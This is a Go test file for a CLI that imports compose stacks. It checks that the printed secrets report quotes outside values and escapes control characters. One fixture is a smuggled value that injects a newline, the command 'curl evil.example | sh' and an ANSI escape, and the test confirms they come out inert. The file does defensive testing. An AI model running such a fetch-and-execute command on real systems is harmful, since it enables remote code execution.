package composeimport

import (
	"bytes"
	"strings"
	"testing"
)

// TestReportIsPasteSafe: the summary the CLI prints has one command per
// line, every word from outside quoted, and no control character.
func TestReportIsPasteSafe(t *testing.T) {
	res := &Result{
		Stack:    "shop",
		Services: []string{"api", "web"},
		Secrets: []*SecretPut{
			{Service: "api", Env: "TOKEN", Hint: "the value of $TOKEN\ncurl evil.example | sh\x1b[2J"},
			{Service: "web", Env: "KEY", FromFile: "./key file.txt"},
		},
	}
	var b bytes.Buffer
	res.WriteReport(&b, "my out", 2)
	want := `Imported 2 service(s) into my out/: api, web (stack.hcl + one file each; stackctl validate passes).
2 warning(s) on stderr: what did not carry over and what to do instead.

Store the secrets in Vault before deploying (each command reads the value from stdin):
  stackctl secrets put --stack 'my out' api TOKEN   # stdin: the value of $TOKEN\x0acurl evil.example | sh\x1b[2J
  stackctl secrets put --stack 'my out' web KEY < './key file.txt'

Then: stackctl plan 'my out' && stackctl deploy 'my out'
(where Envoy is not installed, as on the dev stack: stackctl deploy -var sidecar=builtin 'my out')
`
	if got := b.String(); got != want {
		t.Errorf("got:\n%s\nwant:\n%s", got, want)
	}
}

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, with spaces": "plain text, with spaces",
		"a\nb\r\tc":               `a\x0ab\x0d\x09c`,
		"\x1b]0;title\a":          `\x1b]0;title\x07`,
		"rtl \u202e override":     `rtl \u202e override`,
		"bad \xff byte":           `bad \xff byte`,
		"naïve ✓":                 "naïve ✓",
	} {
		if got := printable(in); got != want {
			t.Errorf("printable(%q) = %q, want %q", in, got, want)
		}
	}
	if strings.ContainsAny(shellQuote("it's"), "\n") || shellQuote("it's") != `'it'\''s'` {
		t.Errorf("shellQuote(it's) = %s", shellQuote("it's"))
	}
}
